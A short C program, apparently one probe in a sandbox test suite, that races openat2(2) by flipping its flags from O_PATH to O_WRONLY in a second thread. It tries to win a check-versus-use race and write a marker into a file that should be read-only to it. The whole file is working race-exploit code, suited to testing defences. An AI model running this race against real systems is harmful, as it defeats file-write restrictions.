/* The flags of openat2(2) lie in memory: O_PATH while they are judged, another thread makes them O_WRONLY. */
#include "attack.h"
#include <linux/openat2.h>
#include <pthread.h>
static volatile struct open_how how;
static volatile int stop;
static void *swap(void *unused) {
    while (!stop) { how.flags = O_WRONLY; how.flags = O_PATH; }
    return unused;
}
int main(int c, char **v) {
    pthread_t thread;
    int won = 0;
    how.flags = O_PATH;
    pthread_create(&thread, NULL, swap, NULL);
    for (int i = 0; i < 3000 && !won; i++) {
        int fd = syscall(SYS_openat2, AT_FDCWD, v[1], &how, sizeof how);
        if (fd >= 0) won = write(fd, MARK, sizeof MARK - 1) > 0, close(fd);
    }
    stop = 1;
    finish(won);
}
